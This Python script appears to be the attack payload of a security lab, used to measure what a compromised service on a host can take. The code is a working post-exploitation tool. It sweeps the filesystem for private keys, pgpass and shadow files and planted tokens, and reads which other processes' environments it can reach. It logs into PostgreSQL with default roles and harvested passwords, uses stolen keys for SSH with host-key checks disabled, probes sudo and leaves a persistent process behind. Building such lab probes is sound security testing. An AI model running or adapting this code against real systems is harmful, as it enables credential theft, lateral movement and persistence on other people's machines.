#!/usr/bin/python3
"""Take what can be taken: the payload of every attack. It breaks nothing and says who it was.

    relevo-loot NAME    where it may, it writes loot-NAME-*.json; and one line to stderr and syslog

It knows the lab's layout, today's and tomorrow's, and what a breached customer would look for.
Standard library alone, for it runs on the hosts.
"""

from __future__ import annotations

import base64
import contextlib
import glob
import grp
import json
import os
import pwd
import re
import socket
import stat
import subprocess
import sys
import tempfile
import time
import zlib
from collections.abc import Iterator  # Python 3.8
from typing import Any

CONFIG = "/usr/share/relevo-loot.json"
MARK = "RELEVO-LOOT "
ROOTS = (
    "/root", "/etc", "/home", "/opt", "/var/lib", "/var/log", "/var/backups", "/var/spool",
    "/var/tmp", "/run", "/srv", "/usr/local", "/tmp", "/dev/shm",
)  # fmt: skip
DULL = re.compile(r"/(python3(\.\d+)?/(site|dist)-packages|man|locale|dpkg|apt|journal)(/|$)")
PLANTED = re.compile(rb"PLANTED-[a-z]+-[a-z]+-[0-9a-f]{12}")
TELLING = re.compile(r"pgpass|odoo\.conf$|shadow-?$")
SOCKETS = (
    "/var/run/postgresql/.s.PGSQL.*", "/run/relevo*/.s.PGSQL.*", "/run/relevo*/*/.s.PGSQL.*",
    "/tmp/.s.PGSQL.*",
)  # fmt: skip
WHO = """
SELECT current_user || CASE WHEN rolsuper THEN ' (superuser)' ELSE '' END
FROM pg_roles WHERE rolname = current_user
"""
ASK = (WHO, "SELECT secret FROM public.relevo_planted")
BIGGEST, TEXT = 20 << 20, 4000
LEFT = "relevo-left-behind"


def who() -> dict[str, Any]:
    uid = os.geteuid()
    with contextlib.suppress(KeyError):
        return {"uid": uid, "user": pwd.getpwuid(uid).pw_name, "groups": groups()}
    return {"uid": uid, "user": str(uid), "groups": groups()}


def groups() -> list[str]:
    found = []
    for each in os.getgroups():
        with contextlib.suppress(KeyError):
            found.append(grp.getgrgid(each).gr_name)
    return found


def unit() -> str:
    with open("/proc/self/cgroup") as file:
        return file.read().strip().rpartition("/")[2]


def readable() -> Iterator[tuple[str, bytes]]:
    """Every file that can be read, also by way of a link."""
    for root in ROOTS:
        for folder, names, files in os.walk(root):
            names[:] = [name for name in names if not DULL.search(f"{folder}/{name}")]
            for name in files:
                path = os.path.join(folder, name)
                if name.startswith(("loot-", ".s.PGSQL")):
                    continue
                with contextlib.suppress(OSError):
                    known = os.stat(path)
                    if stat.S_ISREG(known.st_mode) and known.st_size <= BIGGEST:
                        with open(path, "rb") as file:
                            yield path, file.read()


def files() -> dict[str, Any]:
    tokens: dict[str, str] = {}
    texts: dict[str, str] = {}
    for path, content in readable():
        for token in PLANTED.findall(content):
            tokens.setdefault(token.decode(), path)
        if len(content) < TEXT and (TELLING.search(path) or b"PRIVATE KEY" in content):
            texts[path] = content.decode(errors="replace")
    return {"tokens": tokens, "texts": texts}


def environments() -> list[str]:
    """Processes of others whose environment can be read: they might be taken over as well."""
    found = []
    for path in glob.glob("/proc/[0-9]*"):
        with contextlib.suppress(OSError):
            if os.stat(path).st_uid != os.geteuid():
                with open(f"{path}/environ", "rb") as file:
                    file.read(1)
                with open(f"{path}/cmdline", "rb") as file:
                    line = file.read(100).replace(b"\0", b" ").decode(errors="replace")
                found.append(f"{os.stat(path).st_uid}: {line}")
    return found


def programs(name: str) -> str:
    return max(glob.glob(f"/usr/lib/postgresql/*/bin/{name}"), default=name)


def ask(place: str, role: str, database: str, password: str = "") -> list[str]:
    said = []
    for sql in ASK:
        string = f"{place} user={role} dbname={database} connect_timeout=3"
        done = run([programs("psql"), "-w", "-XAtq", "-d", string, "-c", sql], PGPASSWORD=password)
        if done is None or done.returncode == 2:
            break
        said += done.stdout.decode(errors="replace").split("\n")[:-1]
    return said


def run(
    argv: list[str], stdin: bytes = b"", **environment: str
) -> subprocess.CompletedProcess[bytes] | None:
    given = {key: value for key, value in environment.items() if value}
    with contextlib.suppress(OSError, subprocess.TimeoutExpired):
        return subprocess.run(
            argv, input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=6,
            check=False, env={**os.environ, **given},
        )  # fmt: skip
    return None


def clusters(config: dict[str, Any]) -> list[list[str]]:
    """Log in wherever a cluster listens on this host."""
    found = [path for pattern in SOCKETS for path in glob.glob(pattern) if path[-1].isdigit()]
    places = {f"host={os.path.dirname(path)} port={path.rpartition('.')[2]}" for path in found}
    places |= {f"host={host} port={port}" for host, port in config["ports"] if opens(host, port)}
    roles = ("postgres", "odoo", "replica_rewind", "odoouser")
    came_in = []
    for place in sorted(places):
        for role in roles:
            for database in ("cliente1", "postgres"):
                if said := ask(place, role, database):
                    came_in.append([place, role, database, " ".join(said)])
                    break
    return came_in


def opens(host: str, port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), timeout=2):
        return True
    return False


def passwords(texts: dict[str, str]) -> list[list[str]]:
    """Use every login to another PostgreSQL that was found."""
    found = []
    for path, text in texts.items():
        for line in text.splitlines() if "pgpass" in path else ():
            host, port, database, user, password = (line.split(":") + [""] * 5)[:5]
            wanted = "postgres" if database == "replication" else database
            said = ask(f"host={host} port={port} sslmode=require", user, wanted, password)
            if said:
                found.append([f"{host}:{port}", user, " ".join(said)])
    return found


def logins(config: dict[str, Any], texts: dict[str, str]) -> list[list[str]]:
    """Use every private key that was found, at every origin."""
    found = []
    for path, text in texts.items():
        if "PRIVATE KEY" not in text:
            continue
        with tempfile.NamedTemporaryFile("w") as key:
            key.write(text)
            key.flush()
            for user, address, port in config["logins"]:
                options = ("StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null",
                           "BatchMode=yes", "ConnectTimeout=3", "IdentitiesOnly=yes")  # fmt: skip
                words = [word for option in options for word in ("-o", option)]
                argv = ["ssh", "-F", "/dev/null", *words, "-i", key.name, "-p", str(port)]
                done = run([*argv, f"{user}@{address}", "relevo files"], b"list cliente1\n")
                if done is not None and done.stdout.startswith(b"+"):
                    found.append([path, f"{user}@{address}"])
    return found


def writable(config: dict[str, Any]) -> list[str]:
    paths = [path for pattern in config["roots_own"] for path in glob.glob(pattern)]
    return [path for path in paths if os.access(path, os.W_OK, effective_ids=True)]


def network(config: dict[str, Any]) -> list[str]:
    return [f"{host}:{port}" for host, port in config["network"] if opens(host, port)]


def sudo() -> str:
    done = run(["sudo", "-n", "id"])
    return done.stdout.decode() if done is not None and done.returncode == 0 else ""


def stay() -> int:
    """Leave a process behind, as one would who wants to see the next customer's secrets too."""
    program = "import time; time.sleep(900)"
    with contextlib.suppress(OSError):
        left = subprocess.Popen(
            ["python3", "-c", program, LEFT], stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, cwd="/",
        )  # fmt: skip
        return left.pid
    return 0


def tell(name: str, found: dict[str, Any], config: dict[str, Any]) -> None:
    """Bring it out, by as many ways as there are."""
    text = json.dumps(found)
    folders = [*config["drops"], os.getcwd(), "/var/tmp", "/tmp", "/dev/shm"]
    for folder in folders:
        with contextlib.suppress(OSError):
            path = os.path.join(folder, f"loot-{name}-{found['user']}-{os.getpid()}.json")
            with open(path, "x") as file:
                file.write(text)
            break
    line = MARK + base64.b64encode(zlib.compress(text.encode())).decode()
    with contextlib.suppress(OSError):
        print(line, file=sys.stderr, flush=True)
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
        log.connect("/dev/log")
        log.send(f"<14>relevo-loot: {line}".encode())


def done_before(name: str, config: dict[str, Any]) -> bool:
    """A trap is sprung by each row: once is enough."""
    stamp = f"loot-{name}-{who()['user']}-*.json"
    folders = [*config["drops"], os.getcwd(), "/var/tmp", "/tmp", "/dev/shm"]
    return any(glob.glob(os.path.join(folder, stamp)) for folder in folders)


def main(name: str) -> int:
    with open(CONFIG) as file:
        config: dict[str, Any] = json.load(file)
    repeated = name.startswith("trap")
    if repeated and done_before(name, config):
        return 0
    begun = time.monotonic()
    found: dict[str, Any] = {"name": name, "unit": unit(), "at": time.time(), **who()}
    found.update(files())
    found["environments"] = environments()
    found["clusters"] = clusters(config)
    found["passwords"] = passwords(found["texts"])
    found["logins"] = logins(config, found["texts"])
    found["writable"] = writable(config)
    found["network"] = network(config)
    found["sudo"] = sudo()
    found["seconds"] = round(time.monotonic() - begun, 1)
    found["left"] = stay() if name.startswith("module") else 0
    tell(name, found, config)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
